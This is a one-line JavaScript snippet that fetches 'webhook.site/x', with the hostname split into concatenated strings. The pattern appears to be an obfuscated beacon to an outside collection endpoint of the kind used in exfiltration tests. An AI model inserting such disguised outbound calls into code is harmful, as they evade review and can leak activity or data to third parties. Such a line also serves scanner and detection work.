fetch("https://" + "webhook" + ".site/x");
